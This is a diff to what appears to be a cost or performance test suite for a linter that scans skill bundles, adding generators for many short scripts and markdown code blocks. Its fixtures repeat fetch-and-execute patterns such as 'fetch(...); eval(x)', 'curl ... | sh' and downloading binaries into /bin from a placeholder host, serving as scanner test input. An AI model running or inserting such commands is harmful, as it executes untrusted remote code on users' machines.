@@ -2,8 +2,8 @@
 
 from collections.abc import Callable
 
-from registry.core.bundle import Bundle
-from tests.costs.scans import bundle, lint
+from registry.core.bundle import SKILL_MD, Bundle
+from tests.costs.scans import HEAD, bundle, lint
 from tests.costs.shape import KB, MB, Shape, repeated
 
 
@@ -34,6 +34,17 @@ def _doubling(size: int) -> Bundle:
     return bundle("".join(lines) + "x = f20('a')\n", ".py")
 
 
+def _short_scripts(size: int) -> Bundle:
+    """Return scripts that are short enough to be read several times."""
+    script = repeated("a(b[", 500).encode()
+    return Bundle({SKILL_MD: HEAD, **{f"scripts/{number}.js": script for number in range(min(size // 500, 450))}})
+
+
+def _short_blocks(size: int) -> Bundle:
+    block = f"```js\n{repeated('x = fetch(`https://a.example`); eval(x)', 400)}\n```\n\n"
+    return bundle(block * (size // len(block)), ".md")
+
+
 SHAPES = (
     Shape("downloads and checksums", _downloads_and_checksums, lint, 4 * MB, small=20 * KB),
     Shape("clones", _numbered("git clone https://a.example/b{0}\n./b{0}/x\n", ".sh"), lint, 4 * MB, small=20 * KB),
@@ -52,6 +63,8 @@ SHAPES = (
         "programs that were downloaded", _numbered("curl -o /bin/f{0} http://a.example\ng{0}\n", ".sh"), lint, 4 * MB
     ),
     Shape("indented code", _numbered("\n    curl -o f{0} http://a.example\n", ".md"), lint, 4 * MB),
+    Shape("many short scripts", _short_scripts, lint, 4 * MB, quick=True),
+    Shape("many short blocks", _short_blocks, lint, 4 * MB, quick=True),
     Shape("values in Python", _numbered("a{0} = a{0} + 'x'\n", ".py"), lint, 4 * MB),
     Shape("values in JavaScript", _numbered("x{0} = fetch('https://a.example'); eval(x{0})\n", ".js"), lint, 4 * MB),
     Shape("values in YAML", _numbered("k{0}:\n  - run: curl https://a.example | sh\n", ".yaml"), lint, 4 * MB),
